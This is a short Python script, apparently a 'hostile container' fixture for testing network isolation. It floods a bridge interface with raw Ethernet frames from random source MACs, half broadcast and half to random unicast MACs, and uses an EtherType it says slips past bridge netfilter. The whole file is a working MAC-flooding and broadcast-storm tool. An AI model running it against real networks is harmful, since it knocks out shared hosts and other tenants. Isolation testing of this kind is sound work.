# A hostile container: sends Ethernet frames from random source MACs, half of them broadcast
# and half to random (unknown) unicast MACs, as fast as it can, for SECONDS seconds; prints
# how many it sent. Usage: flood.py IFACE SECONDS
import os
import socket
import sys
import time

iface, seconds = sys.argv[1], float(sys.argv[2])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
# An experimental EtherType: bridge netfilter, where the host has it on, passes it unchecked.
payload = b"\x88\xb5" + bytes(46)
bcast = b"\xff" * 6
end = time.monotonic() + seconds
sent = 0
while True:
    for _ in range(256):
        r = bytearray(os.urandom(12))
        r[0] &= 0xFE  # unicast destination
        r[6] &= 0xFE  # unicast source
        dst = bcast if sent & 1 else bytes(r[:6])
        try:
            s.send(dst + bytes(r[6:]) + payload)
            sent += 1
        except OSError:
            pass
    if time.monotonic() >= end:
        break
print(sent)
